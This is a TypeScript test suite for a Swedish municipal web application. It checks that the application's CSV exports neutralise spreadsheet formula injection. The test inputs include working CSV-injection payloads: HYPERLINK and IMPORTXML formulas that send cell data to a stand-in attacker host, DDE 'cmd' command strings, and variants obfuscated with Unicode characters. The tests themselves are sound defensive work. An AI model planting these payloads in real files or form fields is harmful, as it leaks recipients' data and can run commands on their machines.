import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { eq, inArray } from 'drizzle-orm';
import { followUpPlans, indicators } from '../../src/modules/followup/schema.ts';
import { needsInventoryRounds } from '../../src/modules/needs-inventory/schema.ts';
import { Browser } from '../helpers/browser.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

// Issue 20 item 8: what a county administrator or coordinator writes (a category label, an indicator's name
// and source, a round's title) reaches every recipient's spreadsheet through the CSV exports. Each export
// must hand such a text over as text, never as a live formula.

const NOW = '2026-11-26T10:00:00Z';

/** Formulas as an attacker would write them, plain, behind spaces or invisible characters, full-width. */
const hostile = [
  '=HYPERLINK("http://angripare.example/?"&A1;"Öppna")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUMMA(1+1)*cmd|" /C calc"!A0',
  ' =1+1',
  '\u200b=IMPORTXML("http://angripare.example/";"//a")',
  '\uff1dHYPERLINK("http://angripare.example/")',
  '\uff0b1',
  '\uff20SUMMA(A1)',
];

/** What a spreadsheet sees at the start of a cell, folded the way it may fold it. */
const startsAsFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@\u2212]/u.test(cell.normalize('NFKC'));

/** Reads the download as a spreadsheet would: every cell, and none of them starts as a formula. */
function cellsOf(res: { status: number; headers: Headers; body: Buffer }): string[] {
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
  const rows: string[][] = parse(res.body.toString('utf8'), { delimiter: ';', bom: true });
  const cells = rows.flat();
  const live = cells.filter(startsAsFormula);
  assert.deepEqual(live, [], 'no cell starts as a formula');
  return cells;
}

/** Every hostile text is in the file, prefixed with the apostrophe that keeps it text. */
function assertNeutralised(cells: string[], texts: string[]) {
  for (const t of texts)
    assert.ok(
      cells.includes(`'${t.trim()}`) || cells.includes(`'${t}`),
      `${JSON.stringify(t)} in ${cells.join(' | ')}`,
    );
}

describe('CSV exports: formulas written by users come out as text', () => {
  let s: TestServer;
  const as = async (username: string) => {
    const b = new Browser(s.url, {}, { now: NOW });
    await s.webLogin(b, username);
    return b;
  };
  before(async () => {
    s = await startTestServer();
  });
  after(() => s.close());

  test('the deviation compilation: category labels a county administrator wrote', async () => {
    const admin = await s.login('admin.varmland', { now: NOW });
    const categories = await s.api('GET', '/api/admin/categories/deviation', { token: admin, now: NOW });
    assert.equal(categories.status, 200, categories.text);
    const keys = categories.body.map((c: { key: string }) => c.key) as string[];
    const labels = keys.map((_, i) => hostile[i % hostile.length]!);
    for (const [i, key] of keys.entries()) {
      const res = await s.api('PATCH', `/api/admin/categories/deviation/${key}`, {
        token: admin,
        now: NOW,
        body: { label: labels[i] },
      });
      assert.equal(res.status, 200, res.text);
    }
    const b = await as('soc.karlstad');
    const cells = cellsOf(
      await b.download('/avvikelser/sammanstallning.csv?fran=2026-01-01&till=2026-12-31&huvudman='),
    );
    assertNeutralised(cells, labels);
  });

  test("the follow-up indicators: an indicator's name and its named source", async () => {
    const [plan] = await s.database.db
      .select({ id: followUpPlans.id })
      .from(followUpPlans)
      .where(eq(followUpPlans.countyCode, '17'));
    const rows = await s.database.db
      .select({ id: indicators.id, source: indicators.source })
      .from(indicators)
      .where(eq(indicators.planId, plan!.id));
    assert.ok(
      rows.some((r) => r.source === 'manual'),
      'a manual indicator with its source',
    );
    for (const [i, r] of rows.entries())
      await s.database.db
        .update(indicators)
        .set({ name: hostile[i % hostile.length]!, ...(r.source === 'manual' ? { sourceName: '=1+1' } : {}) })
        .where(inArray(indicators.id, [r.id]));
    const b = await as('soc.karlstad');
    const cells = cellsOf(await b.download('/uppfoljning/indikatorer.csv?ar=2026'));
    assertNeutralised(cells, [...hostile.slice(0, Math.min(rows.length, hostile.length)), '=1+1']);
  });

  test("the needs inventory's results: the round's title", async () => {
    const title = '=HYPERLINK("http://angripare.example/?"&C2;"Behovsinventering 2023")';
    await s.database.db
      .update(needsInventoryRounds)
      .set({ title })
      .where(eq(needsInventoryRounds.id, 'needs-inventory-04-2023'));
    const b = await as('nsph.sormland');
    for (const query of ['', '?kommun=0484']) {
      const cells = cellsOf(
        await b.download(`/behovsinventeringar/needs-inventory-04-2023/resultat.csv${query}`),
      );
      assertNeutralised(cells, [title]);
    }
  });
});
